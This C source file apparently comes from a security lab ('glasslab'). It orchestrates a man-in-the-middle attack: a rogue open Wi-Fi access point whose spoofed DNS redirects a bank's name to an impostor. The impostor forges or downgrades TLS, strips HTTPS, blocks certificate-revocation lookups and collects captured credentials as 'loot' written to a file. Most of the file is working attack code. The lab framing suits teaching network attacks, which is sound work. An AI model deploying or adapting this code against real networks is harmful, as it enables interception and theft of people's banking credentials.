#include "freewifi.h"

#include <errno.h>
#include <jansson.h>
#include <signal.h>
#include <sodium.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
#include <uv.h>

#include "accesspoint.h"
#include "dnsspoof.h"
#include "loot.h"
#include "relay.h"
#include "uplink.h"
#include "withhold.h"

#define LEASE_FILE "/run/glassnet/freewifi.leases"

enum { HTTP_PORT = 80, HTTPS_PORT = 443, READY_MS = 5000 };

struct freewifi {
	const struct freewifi_options *opt;
	struct trace *trace;
	uv_loop_t loop;
	uv_poll_t stop;
	uv_timer_t ready;
	bool watching_stop;
	struct lan lan;
	struct uplink uplink;
	struct accesspoint ap;
	bool ap_started;
	struct dnsspoof dns;
	struct withhold crl;
	struct relay *relay;
	SSL_CTX *server_ctx, *client_ctx;
	struct strip strip;
	struct loot loot;
	bool stopping;
	enum err err;
	char *msg; /* 256 octets */
};

static enum err fail(struct freewifi *f, enum err e, const char *fmt, ...) PRINTF_LIKE(3, 4);

static enum err fail(struct freewifi *f, enum err e, const char *fmt, ...)
{
	va_list ap;
	va_start(ap, fmt);
	vsnprintf(f->msg, 256, fmt, ap);
	va_end(ap);
	f->err = e;
	return e;
}

/* --- the end --- */

/* Closes every handle, so that uv_run() comes back. */
static void stop(struct freewifi *f)
{
	if (f->stopping)
		return;
	f->stopping = true;
	if (f->relay)
		relay_stop(f->relay);
	if (f->ap_started)
		accesspoint_stop(&f->ap);
	dnsspoof_stop(&f->dns);
	withhold_stop(&f->crl);
	if (f->watching_stop)
		uv_close((uv_handle_t *)&f->stop, NULL);
	if (!uv_is_closing((uv_handle_t *)&f->ready))
		uv_close((uv_handle_t *)&f->ready, NULL);
}

static void on_stop(uv_poll_t *h, int status, int events)
{
	(void)status;
	(void)events;
	stop(h->data);
}

static void on_accesspoint(void *ctx)
{
	struct freewifi *f = ctx;
	if (f->ap.ended) {
		fail(f, ERR_INTERNAL, "dnsmasq ended: %s",
		    f->ap.last_line[0] ? f->ap.last_line : "it said nothing; is dnsmasq-base installed?");
		stop(f);
		return;
	}
	uv_timer_stop(&f->ready);
	ev_decision(f->trace, "ready", NULL, "the network is open: addresses by DHCP, lies about %s by DNS, http%s",
	    FREEWIFI_BANK,
	    f->server_ctx                  ? " and https in the bank's place"
	    : f->opt->tls == TLS_DOWNGRADE ? " in the bank's place, https passed on with a weaker offer"
	                                   : " in the bank's place, https passed on untouched");
	if (f->opt->strip)
		ev_decision(f->trace, "stripping", "RFC 6797 2.3.1",
		    "whoever comes by http stays on http: if the bank insists on https, mallory speaks it, and the "
		    "victim never "
		    "hears of it");
	trace_flush(f->trace);
}

static void on_late(uv_timer_t *h)
{
	struct freewifi *f = h->data;
	fail(f, ERR_TIMEOUT, "dnsmasq did not start: %s", f->ap.last_line);
	stop(f);
}

/* --- the begin --- */

static enum err find_places(struct freewifi *f)
{
	if (lan_find(&f->lan))
		return fail(
		    f, ERR_UNSUPPORTED, "this host has no LAN beside its way out: is this the lab's mallory?");
	enum err e = uplink_resolve(&f->uplink.bank, FREEWIFI_BANK, f->opt->limit_ns);
	if (e)
		return fail(f, e == ERR_NEGATIVE ? ERR_UNREACHABLE : e,
		    "the real resolver gives no address for %s (%s): is the lab up?", FREEWIFI_BANK, err_text(e));
	char self[IP_TEXT], bank[IP_TEXT];
	ev_state(f->trace, "places", "the victims' network", NULL, ip_text(self, &f->lan.self), "on interface %s",
	    f->lan.ifname);
	ev_state(f->trace, "places", FREEWIFI_BANK, NULL, ip_text(bank, &f->uplink.bank),
	    "the true one, by the real resolver");
	return ERR_OK;
}

static enum err make_contexts(struct freewifi *f)
{
	enum tls_attack a = f->opt->tls;
	char line[200] = "";
	if (!tls_attack_passes(a)) {
		enum err e = forge_context(&f->server_ctx, a, FREEWIFI_BANK, f->opt->clock, TRUE_DIR);
		if (e == ERR_IO)
			return fail(f, e,
			    "a certificate or key in " TRUE_DIR
			    " cannot be read: glasslab up makes them, on this host only");
		if (e)
			return fail(f, e, "OpenSSL could not make a certificate");
		forge_describe(f->server_ctx, line, sizeof line);
	}
	if ((!tls_attack_passes(a) || f->opt->strip) && client_context(&f->client_ctx))
		return fail(f, ERR_INTERNAL, "OpenSSL could not read the CA certificates of this host");
	ev_decision(f->trace, "certificate", tls_attack_passes(a) ? NULL : "RFC 5280 6",
	    "to whoever comes by https mallory shows %s%s%s%s", tls_attack_text(a), line[0] ? " (" : "", line,
	    line[0] ? ")" : "");
	return ERR_OK;
}

static int listening_socket(const struct ip *ip, uint16_t port)
{
	struct endpoint at = {*ip, port};
	struct sockaddr_storage sa;
	socklen_t len = endpoint_to_sockaddr(&sa, &at);
	int fd = socket(sa.ss_family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return -1;
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &(int){1}, sizeof(int));
	if (bind(fd, (struct sockaddr *)&sa, len) || listen(fd, RELAY_MAX_CONNECTIONS)) {
		int saved = errno;
		close(fd);
		errno = saved;
		return -1;
	}
	return fd;
}

static enum err serve(struct freewifi *f, const struct relay_service *service)
{
	int fd = listening_socket(&f->lan.self, service->port);
	if (fd < 0)
		return fail(f, errno == EACCES ? ERR_PERM : ERR_NET, "cannot listen on port %u: %s", service->port,
		    strerror(errno));
	enum err e = relay_listen(f->relay, fd, service);
	return e ? fail(f, e, "cannot listen on port %u", service->port) : ERR_OK;
}

static enum err start_relay(struct freewifi *f)
{
	struct relay_config cfg = {.loop = &f->loop,
	    .trace = f->trace,
	    .loot = &f->loot,
	    .self = FREEWIFI_SELF,
	    .bank_name = FREEWIFI_BANK,
	    .rewrite = f->opt->rewrite,
	    .strip = f->opt->strip ? &f->strip : NULL,
	    .strip_ctx = f->client_ctx,
	    .strip_port = HTTPS_PORT,
	    .limit_ms = (uint64_t)(f->opt->limit_ns / NS_PER_MS),
	    .dial = uplink_dial,
	    .dial_ctx = &f->uplink,
	    .name_victim = accesspoint_name,
	    .name_ctx = &f->ap};
	enum err e = relay_new(&f->relay, &cfg);
	if (e)
		return fail(f, e, "out of memory");
	struct relay_service http = {.scheme = "http", .port = HTTP_PORT};
	struct relay_service https = {.scheme = "https",
	    .server_ctx = f->server_ctx,
	    .client_ctx = tls_attack_passes(f->opt->tls) ? NULL : f->client_ctx,
	    .blind = tls_attack_passes(f->opt->tls),
	    .downgrade = f->opt->tls == TLS_DOWNGRADE,
	    .port = HTTPS_PORT};
	e = serve(f, &http);
	return e ? e : serve(f, &https);
}

static enum err watch_stop(struct freewifi *f)
{
	if (f->opt->stop_fd < 0)
		return ERR_OK;
	if (uv_poll_init(&f->loop, &f->stop, f->opt->stop_fd))
		return fail(f, ERR_INTERNAL, "cannot wait for the end");
	f->stop.data = f;
	f->watching_stop = true;
	return uv_poll_start(&f->stop, UV_READABLE, on_stop) ? fail(f, ERR_INTERNAL, "cannot wait for the end")
	                                                     : ERR_OK;
}

static enum err start_spoofing(struct freewifi *f)
{
	if (!f->opt->dns)
		return ERR_OK;
	f->dns.trace = f->trace;
	f->dns.bank_name = FREEWIFI_BANK;
	f->dns.ap = &f->ap;
	enum err e = dnsspoof_start(&f->dns, &f->loop, &f->lan);
	if (e == ERR_UNSUPPORTED)
		return fail(f, e, "nft does not take the rules that keep questions from their servers");
	if (e)
		return fail(f, e, "the packets on %s cannot be read: %s", f->lan.ifname, strerror(errno));
	ev_decision(f->trace, "dns-everywhere", "RFC 3833 2.1",
	    "whichever name server a guest asks for an address of %s: mallory answers in its place", FREEWIFI_BANK);
	return ERR_OK;
}

static enum err start_withholding(struct freewifi *f)
{
	struct ip ca;
	if (!f->opt->withhold)
		return ERR_OK;
	enum err e = uplink_resolve(&ca, WITHHOLD_CA, f->opt->limit_ns);
	if (e)
		return fail(f, e == ERR_NEGATIVE ? ERR_UNREACHABLE : e,
		    "the real resolver gives no address for " WITHHOLD_CA);
	f->crl.trace = f->trace;
	f->crl.ap = &f->ap;
	e = withhold_start(&f->crl, &f->loop, &f->lan, &ca);
	if (e == ERR_UNSUPPORTED)
		return fail(f, e, "nft does not take the rule that turns connections round");
	if (e)
		return fail(f, e, "cannot listen on port %d: %s", WITHHOLD_OWN_PORT, strerror(errno));
	ev_decision(
	    f->trace, "withholding", "RFC 5280 8", "what guests ask " WITHHOLD_CA " over http does not get there");
	return ERR_OK;
}

static enum err start(struct freewifi *f)
{
	enum err e = find_places(f);
	if (!e)
		e = make_contexts(f);
	if (!e)
		e = start_relay(f);
	if (!e)
		e = start_spoofing(f);
	if (!e)
		e = start_withholding(f);
	if (!e)
		e = watch_stop(f);
	if (e)
		return e;
	f->ap = (struct accesspoint){.trace = f->trace,
	    .bank_name = FREEWIFI_BANK,
	    .lease_file = LEASE_FILE,
	    .on_change = on_accesspoint,
	    .ctx = f};
	accesspoint_read_leases(&f->ap);
	f->ap_started = true;
	uv_timer_start(&f->ready, on_late, READY_MS, 0);
	e = accesspoint_start(&f->ap, &f->loop, &f->lan);
	return e ? fail(f, e, "dnsmasq could not be started") : ERR_OK;
}

/* --- what came of it --- */

static json_t *leases_json(const struct accesspoint *a)
{
	json_t *all = json_array();
	for (size_t i = 0; all && i < a->n_leases; i++)
		json_array_append_new(all, json_pack("{s:s, s:s, s:s}", "address", a->leases[i].addr, "mac",
		                               a->leases[i].mac, "name", a->leases[i].name));
	return all;
}

static void emit_result(struct freewifi *f)
{
	char line[400];
	size_t n = 0;
	const struct loot *l = &f->loot;
	for (size_t i = 0; i < l->n && n < sizeof line; i++)
		n += (size_t)snprintf(
		    line + n, sizeof line - n, "%s%s=%s", i ? ", " : "", l->items[i].key, l->items[i].value);
	json_t *o = json_pack("{s:s, s:b, s:b, s:o, s:o, s:o, s:i, s:o, s:i}", "tls", tls_attack_name(f->opt->tls),
	    "rewrite", f->opt->rewrite, "strip", f->opt->strip, "loot", loot_json(l), "connections",
	    relay_json(f->relay), "leases", leases_json(&f->ap), "dns_lies", (int)f->ap.lies, "dns_spoofed",
	    dnsspoof_json(&f->dns), "crl_withheld", (int)f->crl.n);
	char *data = o ? json_dumps(o, JSON_COMPACT) : NULL;
	json_decref(o);
	if (l->n)
		ev_result(f->trace, ERR_OK, data, "mallory holds %s", line);
	else
		ev_result(f->trace, ERR_NEGATIVE, data, "mallory holds nothing, after %zu connections",
		    relay_n_records(f->relay));
	sodium_memzero(line, sizeof line);
	if (data)
		sodium_memzero(data, strlen(data));
	free(data);
}

static void release(struct freewifi *f)
{
	stop(f);
	uv_run(&f->loop, UV_RUN_DEFAULT); /* every handle is closing: this ends */
	uv_loop_close(&f->loop);
	relay_free(f->relay);
	SSL_CTX_free(f->server_ctx);
	SSL_CTX_free(f->client_ctx);
	loot_release(&f->loot);
}

enum err freewifi_run(const struct freewifi_options *opt, struct trace *t, char msg[static 256])
{
	struct freewifi *f = calloc(1, sizeof *f);
	msg[0] = '\0';
	if (!f)
		return ERR_NOMEM;
	f->opt = opt;
	f->trace = t;
	f->msg = msg;
	f->dns.in = f->dns.out = f->crl.fd = -1;
	loot_init(&f->loot);
	signal(SIGPIPE, SIG_IGN); /* OpenSSL writes to sockets that victims have closed */
	if (uv_loop_init(&f->loop)) {
		free(f);
		return ERR_NOMEM;
	}
	uv_timer_init(&f->loop, &f->ready);
	f->ready.data = f;
	if (start(f) == ERR_OK)
		uv_run(&f->loop, UV_RUN_DEFAULT);
	if (f->err == ERR_OK) {
		emit_result(f);
		f->err = f->loot.n ? ERR_OK : ERR_NEGATIVE;
		if (opt->loot_file && loot_write(&f->loot, opt->loot_file))
			fail(f, ERR_IO, "%s cannot be written: %s", opt->loot_file, strerror(errno));
	}
	enum err e = f->err;
	release(f);
	free(f);
	return e;
}
